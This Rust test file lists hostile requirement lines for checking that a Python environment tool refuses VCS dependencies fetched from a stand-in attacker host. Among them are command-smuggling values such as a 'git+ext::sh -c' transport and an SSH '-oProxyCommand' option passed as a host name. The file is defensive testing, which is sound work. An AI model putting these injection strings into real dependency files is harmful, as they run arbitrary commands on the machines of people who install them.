//! Addresses behind which uv would run Git, or another program, on the word of the repository.

use crate::hostile_repositories::row::{ALL, Row};

pub fn rows() -> Vec<Row> {
    // Where the manifest has `build`, only `lls lock` may go there: `plan` and `apply` say so.
    let refused = |name, requirements| {
        Row::app(name, requirements)
            .refused(&["layers/app/requirements.txt:1", "hint:"])
            .silent()
    };
    let built = |name, requirements| {
        Row::app(name, requirements)
            .edit("[layers.app]", "[layers.app]\nbuild = [\"x\"]")
            .commands(ALL)
            .refused(&["lls lock", "hint:"])
            .silent()
    };
    vec![
        refused(
            "git: a repository called like a wheel",
            "x @ git+http://{attacker}/x.whl\n",
        ),
        refused(
            "git: the same, in capitals",
            "x @ GIT+HTTP://{attacker}/x.whl\n",
        ),
        refused(
            "git: the same, with a revision and a fragment",
            "x @ git+http://{attacker}/x.whl@main#egg=x.whl\n",
        ),
        refused(
            "git: a wheel in the fragment",
            "x @ git+http://{attacker}/x#subdirectory=x.whl\n",
        ),
        refused(
            "git: a wheel in the query",
            "x @ git+http://{attacker}/x?x.whl\n",
        ),
        refused(
            "git: a revision called like a wheel",
            "x @ git+http://{attacker}/x@x.whl\n",
        ),
        refused(
            "git: a transport that runs a command",
            "x @ git+ext::sh -c touch% {around}/ran% x.whl\n",
        ),
        refused(
            "git: a transport that runs a command, as an address",
            "x @ git+ext::sh://{attacker}/x.whl\n",
        ),
        refused(
            "git: a folder of this machine",
            "x @ git+file://{around}/sibling/x.whl\n",
        ),
        refused(
            "git: a folder of this machine, in capitals",
            "x @ FILE://{around}/sibling/x-1-py3-none-any.whl\n",
        ),
        refused(
            "git: over SSH, with an option as the host",
            "x @ git+ssh://-oProxyCommand=touch/x.whl\n",
        ),
        refused(
            "git: another protocol of Git",
            "x @ git+git://{attacker}/x.whl\n",
        ),
        refused("git: Mercurial", "x @ hg+http://{attacker}/x.whl\n"),
        refused("git: Subversion", "x @ svn+http://{attacker}/x.whl\n"),
        refused("git: Bazaar", "x @ bzr+http://{attacker}/x.whl\n"),
        refused("git: without a name", "git+http://{attacker}/x.whl\n"),
        refused(
            "git: to be worked on in place",
            "-e git+http://{attacker}/x.whl#egg=x\n",
        ),
        refused("git: continued", "x @ git\\\n+http://{attacker}/x.whl\n"),
        built(
            "git: a repository that may be built",
            "x @ git+https://{attacker}/x\n",
        ),
        built(
            "git: a repository called like a wheel that may be built",
            "x @ git+https://{attacker}/x.whl\n",
        ),
        built(
            "git: an archive that may be built",
            "x @ http://{attacker}/x.tar.gz\n",
        ),
    ]
}
